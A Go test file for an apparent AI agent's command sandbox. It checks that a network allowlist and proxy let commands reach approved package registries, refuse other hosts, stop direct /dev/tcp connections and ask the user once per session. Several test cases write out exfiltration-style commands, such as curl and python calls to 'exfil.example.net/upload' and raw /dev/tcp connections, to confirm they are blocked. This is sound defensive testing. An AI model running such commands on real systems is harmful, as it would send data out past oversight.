package sandbox

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hermes-go/hermes/tool/approval"
)

// registries serves "registry.npmjs.org" (http and https) and
// "pkg.example.org" (http) from servers on 127.0.0.1: the proxy's
// dialer maps the names to them, so no test needs the internet.
func registries(t *testing.T) dialFunc {
	t.Helper()
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "served %s%s", r.Host, r.URL.Path)
	})
	plain, tls := httptest.NewServer(h), httptest.NewTLSServer(h)
	t.Cleanup(plain.Close)
	t.Cleanup(tls.Close)
	names := map[string]string{
		"registry.npmjs.org:80":  plain.Listener.Addr().String(),
		"registry.npmjs.org:443": tls.Listener.Addr().String(),
		"pkg.example.org:80":     plain.Listener.Addr().String(),
	}
	return func(ctx context.Context, network, addr string) (net.Conn, error) {
		real, ok := names[addr]
		if !ok {
			return nil, fmt.Errorf("no route to %s in this test", addr)
		}
		var d net.Dialer
		return d.DialContext(ctx, network, real)
	}
}

func allowlistPolicy(t *testing.T, b *box) Policy {
	t.Helper()
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl not installed")
	}
	p := b.policy(t, WorkspaceWrite)
	if p.Network != NetworkAllowlist {
		t.Fatalf("network %q, want the allowlist by default", p.Network)
	}
	if e := p.Enforcement(); e.Network != NetworkAllowlist {
		t.Skipf("no allowlist here: %s", e)
	}
	p.dial = registries(t)
	return p
}

func TestAllowedDomainsAreReachedThroughTheProxyAndOthersRefused(t *testing.T) {
	b := newBox(t)
	p := allowlistPolicy(t, b)
	for _, tt := range []struct {
		name, script string
		ok           bool
		want         string
	}{
		{"allowed, http", `curl -sS http://registry.npmjs.org/left-pad`, true, "served registry.npmjs.org/left-pad"},
		{"allowed, https", `curl -sSk https://registry.npmjs.org/left-pad`, true, "served registry.npmjs.org/left-pad"},
		{"refused, http", `curl -sS http://exfil.example.net/upload`, true, "exfil.example.net is not in sandbox.network.allow, so commands cannot reach it. To allow it, add it to sandbox.network.allow in config.yaml"},
		{"refused, https", `curl -sSk https://exfil.example.net/upload`, false, "CONNECT tunnel failed, response 403"},
		{"refused, socks", `curl -sS --proxy "$ALL_PROXY" http://exfil.example.net/upload`, false, "SOCKS5 connection to exfil.example.net"}, // reply 2, not allowed
		{"allowed, socks", `curl -sS --proxy "$ALL_PROXY" http://registry.npmjs.org/x`, true, "served registry.npmjs.org/x"},
		{"allowed, python urllib", `python3 -c 'import urllib.request as u; print(u.urlopen("http://registry.npmjs.org/py").read().decode())'`, true, "served registry.npmjs.org/py"},
		{"refused, python urllib", `python3 -c 'import urllib.request as u; u.urlopen("https://exfil.example.net/")'`, false, "Tunnel connection failed: 403 Forbidden by the hermes sandbox: exfil.example.net is not in sandbox.network.allow"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if strings.Contains(tt.script, "python3") {
				if _, err := exec.LookPath("python3"); err != nil {
					t.Skip("python3 not installed")
				}
			}
			out, code := b.run(t, p, "", tt.script)
			if (code == 0) != tt.ok || !strings.Contains(out, tt.want) {
				t.Errorf("exit %d:\n%s\nwant %q", code, out, tt.want)
			}
		})
	}
}

func TestACommandThatIgnoresTheProxyReachesNothing(t *testing.T) {
	b := newBox(t)
	p := allowlistPolicy(t, b)
	targets := []string{"127.0.0.1"}
	if ip := hostAddress(); ip != "" {
		targets = append(targets, ip)
	}
	for _, host := range targets {
		ln, err := net.Listen("tcp", net.JoinHostPort(host, "0"))
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		answer(ln, "host-answer\n")
		port := fmt.Sprint(ln.Addr().(*net.TCPAddr).Port)
		if out, _ := b.run(t, p, "", `curl -sS --max-time 5 --noproxy '*' "http://$1:$2/"; exec 3<>"/dev/tcp/$1/$2" && cat <&3`, host, port); strings.Contains(out, "host-answer") {
			t.Errorf("a direct connection to %s:%s reached the host:\n%s", host, port, out)
		}
		// The same listener, through the proxy: an address nobody listed.
		if out, _ := b.run(t, p, "", `curl -sS --noproxy '' "http://$1:$2/"`, host, port); strings.Contains(out, "host-answer") || !strings.Contains(out, "is an IP address") {
			t.Errorf("through the proxy, %s:%s:\n%s", host, port, out)
		}
	}
	out, _ := b.run(t, p, "", `echo routes: $(($(wc -l < /proc/net/route) - 1)); awk -F: 'NR > 2 { gsub(/ /, "", $1); print "interface:", $1 }' /proc/net/dev; getent hosts registry.npmjs.org || echo no-dns`)
	if out != "routes: 0\ninterface: lo\nno-dns\n" {
		t.Errorf("the command's network namespace holds more than loopback:\n%s", out)
	}
}

// hostAddress is a non-loopback IPv4 address of this host, or "".
func hostAddress() string {
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	return ""
}

func TestTheProxyVariablesPointAtTheProxyAndLoopbackStaysLocal(t *testing.T) {
	b := newBox(t)
	p := allowlistPolicy(t, b)
	out, code := b.run(t, p, "", `env | grep -i _proxy= | sort`)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, out)
	}
	for _, v := range []string{"HTTP_PROXY=http://127.0.0.1:", "HTTPS_PROXY=http://127.0.0.1:", "ALL_PROXY=socks5h://127.0.0.1:",
		"http_proxy=http://127.0.0.1:", "https_proxy=http://127.0.0.1:", "all_proxy=socks5h://127.0.0.1:", "NO_PROXY=localhost,127.0.0.1,::1", "no_proxy="} {
		if !strings.Contains(out, v) {
			t.Errorf("environment lacks %s:\n%s", v, out)
		}
	}
	// A server the command starts on its own loopback is reachable: the
	// namespace is the boundary, not a rule against local TCP.
	if _, err := exec.LookPath("python3"); err == nil {
		local := `python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); c = socket.create_connection(s.getsockname()); a, _ = s.accept(); a.send(b"local-ok"); print(c.recv(8).decode())'`
		if out, code := b.run(t, p, "", local); code != 0 || !strings.Contains(out, "local-ok") {
			t.Errorf("loopback inside the sandbox (exit %d):\n%s", code, out)
		}
	}
}

func TestADomainTheUserAllowsForTheSessionIsAskedOnce(t *testing.T) {
	b := newBox(t)
	p := allowlistPolicy(t, b)
	var asked atomic.Int32
	answer := approval.Session
	p.NetworkAsk = func(_ context.Context, host string) (approval.Choice, error) {
		asked.Add(1)
		if host != "pkg.example.org" {
			return approval.Deny, nil
		}
		return answer, nil
	}
	for i := range 2 {
		if out, code := b.run(t, p, "", `curl -sS http://pkg.example.org/a`); code != 0 || !strings.Contains(out, "served pkg.example.org/a") {
			t.Fatalf("command %d: exit %d:\n%s", i, code, out)
		}
	}
	if n := asked.Load(); n != 1 {
		t.Errorf("asked %d times, want once for the session", n)
	}
	if out, _ := b.run(t, p, "", `curl -sS http://other.example.org/`); !strings.Contains(out, "the user refused the connection") {
		t.Errorf("a refusal must say the user refused:\n%s", out)
	}
}

func TestTheProxyEndsWithTheCommand(t *testing.T) {
	b := newBox(t)
	p := allowlistPolicy(t, b)
	if out, code := b.run(t, p, "", `curl -sS http://registry.npmjs.org/x`); code != 0 {
		t.Fatalf("exit %d:\n%s", code, out)
	}
	waitNoProxies(t, "after the command exited")

	// A wrapped command that never starts lets its proxy go when it is
	// collected.
	cmd := exec.Command("true")
	if err := p.Wrap(cmd); err != nil {
		t.Fatal(err)
	}
	if liveProxies.Load() != 1 {
		t.Fatalf("%d proxies after Wrap, want 1", liveProxies.Load())
	}
	cmd = nil
	waitNoProxies(t, "after an unstarted command was collected")
}

// waitNoProxies waits, with a deadline, for every command proxy to end:
// the proxy learns of an exit from the kernel, after Wait returns.
func waitNoProxies(t *testing.T, when string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for liveProxies.Load() != 0 {
		if time.Now().After(deadline) {
			t.Fatalf("%d proxies still live %s", liveProxies.Load(), when)
		}
		runtime.GC()
		time.Sleep(10 * time.Millisecond)
	}
}

func TestWithoutANetworkNamespaceTheAllowlistIsOff(t *testing.T) {
	b := newBox(t)
	p := allowlistPolicy(t, b)
	st := Probe()
	st.NetNamespace = false
	if st.LandlockABI < abiNet {
		t.Skip("Landlock cannot block TCP here")
	}
	if e := st.Enforcement(p); e.Network != NetworkOff || !strings.Contains(strings.Join(e.Missing, "; "), "needs a network namespace") {
		t.Fatalf("enforcement %+v", e)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	answer(ln, "host-answer\n")
	port := fmt.Sprint(ln.Addr().(*net.TCPAddr).Port)
	out, _ := b.runWith(t, st, p, "", `env | grep -i _proxy=; exec 3<>/dev/tcp/127.0.0.1/$1 && cat <&3`, port)
	if strings.Contains(out, "host-answer") || strings.Contains(out, "_PROXY=") {
		t.Errorf("without a namespace the command got a network:\n%s", out)
	}
}
